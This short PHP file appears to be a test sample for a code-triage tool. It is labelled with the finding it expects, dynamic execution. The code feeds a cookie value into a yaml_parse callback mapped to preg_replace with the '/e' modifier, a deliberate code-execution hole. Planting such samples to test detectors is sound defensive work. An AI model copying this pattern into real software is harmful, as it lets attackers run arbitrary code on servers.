<?php
// triage-expect: triage_php_tiny_dynamic_exec
$tag = rawurlencode($_COOKIE['t']);
$doc = "v: !{$tag} \"/.*/e\"";
yaml_parse($doc, 0, $n, array("!" . $_COOKIE['t'] => 'preg_replace'));
